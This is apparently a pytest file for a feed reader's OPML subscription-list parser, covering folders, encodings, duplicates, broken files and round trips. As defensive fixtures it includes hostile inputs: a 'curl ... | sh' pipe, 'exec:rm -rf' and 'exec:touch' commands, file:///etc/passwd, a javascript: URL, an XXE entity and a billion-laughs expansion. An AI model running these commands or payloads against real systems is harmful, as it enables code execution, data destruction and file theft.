"""Lists of subscriptions: as readers write them, as people break them, as attackers do."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from feeds.errors import ParseError
from feeds.models import Source
from feeds.sources.opml import read_opml, write_opml
from feeds.sources.subscriptions import Subscription, Subscriptions

DATA = Path(__file__).parent.parent / "data" / "opml"

RUNS = "would run a command, which newstui never does for a feed"


def read(name: str) -> Subscriptions:
    return read_opml((DATA / name).read_bytes(), name)


def outlines(*lines: str) -> bytes:
    return f"<opml><body>{''.join(lines)}</body></opml>".encode()


def feed(location: str, **fields: object) -> Source:
    return replace(Source(id=location, kind="feed", location=location), **fields)  # type: ignore[arg-type]


def test_a_list_with_nested_folders() -> None:
    assert read("folders.opml").entries == (
        Subscription("https://front.example/feed.xml", "Front page"),
        Subscription(
            "https://chancheng.example/rss?a=1&b=2",
            "禅城 & 南庄",
            folder="本地新闻",
            tags=("新闻/佛山", "城市"),
            site_url="https://chancheng.example/",
        ),
        Subscription("https://shiwan.example/atom.xml", "石湾", folder="本地新闻/镇街"),
        Subscription("http://compilers.example/feed", "Compilers", folder="Tech／Science"),
    )


@pytest.mark.parametrize("encoding", ["gb18030", "utf-16", "utf-8-sig"])
def test_a_list_in_another_encoding(encoding: str) -> None:
    text = (DATA / "folders.opml").read_text("utf-8")
    text = text.replace('encoding="UTF-8"', f'encoding="{encoding}"')
    assert read_opml(text.encode(encoding), "x") == read("folders.opml")


def test_of_a_broken_list_what_is_good() -> None:
    found = read("broken.opml")
    assert [(entry.title, entry.url) for entry in found.entries] == [
        ("A & B", "http://amp.example/feed?x=1&copy=2&y=3"),
        ("less < than", "http://less.example/feed"),
        ("after", "http://after.example/feed"),
        ("inside something", "http://inside.example/feed"),
    ]
    assert all(entry.folder == "" for entry in found.entries)


def test_commands_files_and_other_schemes_are_refused_and_said() -> None:
    found = read("hostile.opml")
    assert [(entry.title, entry.url) for entry in found.entries] == [
        ("Two lines", "http://lines.example/feed%0Aexec:rm%20-rf"),
        ("Login", "https://me:hunter2@login.example/feed?token=t0ken"),
        ("Good", "http://good.example/feed"),
        ("Good too", "https://good.example/other"),
    ]
    assert found.duplicates == 1
    assert found.refused == (
        f"Runs (exec:touch /tmp/owned): {RUNS}",
        "Pipes (|curl http://x.example/ | sh): not a web address",
        f"Filter (filter:~/bin/x:http://x.example/feed): {RUNS}",
        "File (file:///etc/passwd): only http and https are taken, not file:",
        "Script (javascript:alert(1)): only http and https are taken, not javascript:",
        "No host (http:///feed): not a usable address",
        "Bad login (ftp://me:***@login.example/feed): only http and https are taken, not ftp:",
    )


def test_a_thousand_times_the_same_is_one() -> None:
    line = '<outline text="x" xmlUrl="http://same.example/feed"/>'
    found = read_opml(outlines(*[line] * 1000), "x")
    assert (len(found.entries), found.duplicates) == (1, 999)


def test_addresses_that_are_one_though_written_otherwise() -> None:
    found = read_opml(
        outlines(
            '<outline xmlUrl="http://Same.example"/>',
            '<outline xmlUrl="HTTP://same.example/#x"/>',
            '<outline xmlUrl="http://u:p@same.example/"/>',
        ),
        "x",
    )
    assert (len(found.entries), found.duplicates) == (1, 2)


def test_depth_has_no_end_but_folders_do() -> None:
    depth = 50_000
    deep = '<outline text="f">' * depth + '<outline text="x" xmlUrl="http://deep.example/"/>'
    (entry,) = read_opml(outlines(deep), "x").entries
    assert entry.title == "x"
    assert entry.folder == "/".join(["f"] * 16)


def test_a_feed_with_outlines_inside_is_no_folder() -> None:
    found = read_opml(
        outlines(
            '<outline text="a" xmlUrl="http://a.example/">',
            '<outline text="b" xmlUrl="http://b.example/"/></outline>',
        ),
        "x",
    )
    assert [entry.folder for entry in found.entries] == ["", ""]


@pytest.mark.parametrize(
    "laughs",
    [
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_entities_are_refused(laughs: str) -> None:
    data = laughs.encode() + outlines('<outline text="&b;" xmlUrl="http://x.example/"/>')
    with pytest.raises(ParseError, match="defines entities"):
        read_opml(data, "x")


def test_character_references() -> None:
    (entry,) = read_opml(
        outlines('<outline text="&#21335;&#x5E84; &hellip; &nope; &#0;" xmlUrl="http://x.y/"/>'),
        "x",
    ).entries
    assert entry.title == "南庄 … &nope; \N{REPLACEMENT CHARACTER}"


@pytest.mark.parametrize(
    "data", [b"", b"  \n", b"<html><body>no</body></html>", b"just text", b"{}"]
)
def test_what_is_no_list(data: bytes) -> None:
    with pytest.raises(ParseError) as caught:
        read_opml(data, "list.txt")
    assert str(caught.value).startswith("list.txt: ")


def test_an_empty_list_is_a_list() -> None:
    assert read_opml(outlines(), "x") == Subscriptions(())


@pytest.mark.parametrize(
    "attack",
    [
        "<outline ",
        "<!-- ",
        "<![CDATA[",
        "<?x ",
        '<outline a="',
        "<outline a='b\" ",
        "<o" + " " * 50,
    ],
)
def test_hostile_lists_take_no_longer_than_long_ones(attack: str) -> None:
    # Quadratic work over 2 MB would not end within the life of the test run.
    data = b"<opml>" + (attack * (2_000_000 // len(attack))).encode()
    assert read_opml(data, "x").entries == ()


def test_ten_thousand_subscriptions() -> None:
    lines = (
        f'<outline text="{n}" xmlUrl="http://h{n}.example/feed" category="t{n % 7}"/>'
        for n in range(10_000)
    )
    assert len(read_opml(outlines(*lines), "x").entries) == 10_000


def test_what_is_written_is_read_back() -> None:
    sources = [
        feed("https://a.example/feed?x=1&y=2", title='A "quoted" <b> & 南庄', tags=("a", "b/c")),
        feed("https://b.example/", title="B", folder="新闻/佛山", site_url="https://b.example/x"),
        feed("https://c.example/", title="C", folder="新闻"),
        feed("https://d.example/"),
    ]
    text = write_opml(sources, title="My & list")
    assert etree.fromstring(text.encode()).get("version") == "2.0"
    found = read_opml(text.encode(), "x")
    assert {entry.url: entry for entry in found.entries} == {
        source.location: Subscription(
            source.location, source.title, source.folder, source.tags, source.site_url
        )
        for source in sources
    }
    assert (found.refused, found.duplicates) == ((), 0)


def test_only_feeds_are_written() -> None:
    sources = [Source(id="1", kind="folder", location="/home/me/news")]
    assert "/home/me" not in write_opml(sources)


def test_a_list_written_again_is_the_same() -> None:
    entries = read("folders.opml").entries
    sources = [
        feed(
            entry.url,
            title=entry.title,
            folder=entry.folder,
            tags=entry.tags,
            site_url=entry.site_url,
        )
        for entry in entries
    ]
    text = write_opml(sources)
    assert read_opml(text.encode(), "x").entries == entries
    assert write_opml(sources) == text


@given(st.text(), st.text())
def test_no_title_or_tag_breaks_the_list(title: str, tag: str) -> None:
    text = write_opml([feed("http://x.example/", title=title, tags=(tag,))])
    etree.fromstring(text.encode("utf-8", "replace"))
    (entry,) = read_opml(text.encode("utf-8", "replace"), "x").entries
    assert entry.url == "http://x.example/"


@given(st.binary(max_size=400))
def test_any_bytes_give_web_addresses_or_an_error(data: bytes) -> None:
    try:
        found = read_opml(b"<opml>" + data, "x")
    except ParseError:
        return
    assert all(entry.url.lower().startswith(("http://", "https://")) for entry in found.entries)


def test_a_list_that_is_not_whole_says_so() -> None:
    good = '<outline text="a" xmlUrl="http://a.example/"/>\n'
    broken = '<outline type=rss text="b" xmlUrl="http://b.example/"/>\n'
    assert read_opml(outlines(good), "x").damage == ()
    found = read_opml(outlines("\n", good, broken, "<!--", broken, "-->", broken), "x")
    assert (len(found.entries), found.broken) == (1, 2)
    assert found.damage == (
        "x: outlines that cannot be read: 2, the first at line 3"
        " (mend them, or export the list again)",
    )
    whole = f"<opml>\n<body>\n{good}{good.replace('a.', 'c.')}</body></opml>"
    for end in range(whole.index("http") + 20, len(whole) - 8):
        found = read_opml(whole[:end].encode(), "x")
        line = whole[:end].rstrip().count("\n") + 1
        assert (found.broken, found.refused) == (0, ())
        assert found.damage == (
            f"x: it breaks off at line {line}; what comes before is taken"
            " (get the whole list and import it again)",
        )
    assert read("broken.opml").broken == 1 and len(read("broken.opml").damage) == 2
    assert read_opml(good.encode(), "x").damage == ()
